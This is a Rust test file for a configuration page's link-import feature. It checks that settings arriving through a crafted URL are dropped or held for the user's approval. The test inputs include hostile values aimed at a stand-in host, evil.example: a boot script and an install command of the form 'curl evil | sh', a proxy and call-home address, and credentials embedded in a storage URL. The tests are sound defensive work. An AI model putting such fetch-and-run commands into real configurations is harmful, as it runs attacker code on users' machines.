//! What comes by a link, and who has to look at it first.

use dynaboot_core::{Edit, Field};
use serde_json::json;

use super::session;
use crate::link::Unreadable;
use crate::notice::Notice;
use crate::session::Action;

/// A link as somebody writes it who keeps to no rule of this page.
fn made_by_hand(choices: &serde_json::Value) -> String {
    use base64::Engine;
    format!("plan={}", base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(choices.to_string()))
}

#[test]
fn a_link_brings_nothing_that_no_link_of_ours_holds() {
    let fragment = made_by_hand(&json!({
        "cloud": "aws", "userPart": "#!/bin/sh\ncurl evil", "proxy": "http://evil.example", "callHome": "https://evil.example",
        "agent": { "id": "generic", "settings": { "installCommand": "curl evil | sh", "serviceName": "x" } },
        "bundleStore": { "url": "https://u:p@evil.example/b?sig=1", "user": "u", "password": "p" },
        "software": { "commands": ["/bin/sh"], "packages": ["git"] },
    }));
    let opened = session().begun(&fragment, None);
    let choices = opened.choices();
    assert_eq!((&choices.user_part, &choices.proxy, &choices.call_home), (&None, &None, &None));
    assert_eq!((choices.bundle_store.user.as_ref(), choices.bundle_store.password.is_some()), (None, false));
    assert_eq!(choices.bundle_store.url.as_deref(), Some("https://evil.example/b"));
    assert!(choices.software.commands.is_empty() && !choices.agent.settings.contains_key("installCommand"));
    let [Notice::LeftOut(fields)] = opened.notices() else { panic!("{:?}", opened.notices()) };
    for field in [Field::UserPart, Field::Proxy, Field::CallHome, Field::BundleStoreUrl, Field::SoftwareCommands] {
        assert!(fields.contains(&field), "{field}");
    }
    let long = made_by_hand(&json!({ "image": { "id": "x".repeat(300_000) } }));
    assert_eq!(session().begun(&long, None).notices(), [Notice::Unreadable(Unreadable::Broken)]);
}

#[test]
fn what_came_by_a_link_waits_for_its_reader_however_it_is_changed() {
    let of = |store: &str| made_by_hand(&json!({ "cloud": "aws", "bundleStore": { "url": store } }));
    let opened = session().begun(&of("http://evil.example/b"), None);
    assert_eq!(opened.unaccepted(), [&Field::BundleStoreUrl]);
    assert_eq!(opened.to_keep("#"), None, "kept, it would come back as the reader's own");
    let mended = opened.then(Action::Apply(vec![Edit::new(Field::BundleStoreUrl, "https://evil.example/b")]));
    assert_eq!(mended.unaccepted(), [&Field::BundleStoreUrl]);
    let gone = opened.then(Action::Choose(Edit::new(Field::BundleStoreUrl, serde_json::Value::Null)));
    assert!(gone.unaccepted().is_empty());
    let accepted = mended.then(Action::Accept);
    assert!(accepted.unaccepted().is_empty() && accepted.to_keep("#").is_some());
    // A foreign page changes the address of this one.
    let again = accepted.then(Action::OpenLink(of("https://other.example/b")));
    assert_eq!(again.unaccepted(), [&Field::BundleStoreUrl]);
    assert!(again.then(Action::Undo).unaccepted().is_empty(), "what was accepted before");
    // Of two, the second alone is looked at: no way leads back to the first without a question.
    let third = again.then(Action::OpenLink(of("https://third.example/b"))).then(Action::Accept);
    assert!(!third.can_undo() && third.unaccepted().is_empty());
    let back = third.then(Action::OpenLink(of("https://other.example/b")));
    assert_eq!(back.unaccepted(), [&Field::BundleStoreUrl]);
}
